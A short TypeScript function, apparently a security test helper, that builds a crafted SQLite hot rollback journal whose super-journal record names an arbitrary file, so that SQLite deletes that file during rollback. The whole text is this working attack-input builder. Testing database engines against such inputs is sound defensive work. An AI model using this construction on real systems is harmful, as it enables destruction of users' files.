/** A journal that is hot and names a super-journal: SQLite rolls it back, and deletes what it names. */
export function craftedJournal(database: Uint8Array, name: string): Uint8Array {
  const text = new TextEncoder().encode(name);
  const tail = new Uint8Array(4 + text.length + 16);
  const view = new DataView(tail.buffer);
  const magic = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
  view.setUint32(0, Math.floor(2 ** 30 / 4096) + 1);
  tail.set(text, 4);
  view.setUint32(4 + text.length, text.length);
  view.setUint32(8 + text.length, text.reduce((sum, byte) => sum + byte, 0));
  tail.set(magic, 12 + text.length);
  const header = new Uint8Array(512);
  header.set(magic);
  const parts = new DataView(header.buffer);
  parts.setUint32(8, 0); // no pages
  parts.setUint32(16, database.length / 4096);
  parts.setUint32(20, 512);
  parts.setUint32(24, 4096);
  const whole = new Uint8Array(header.length + tail.length);
  whole.set(header);
  whole.set(tail, header.length);
  return whole;
}
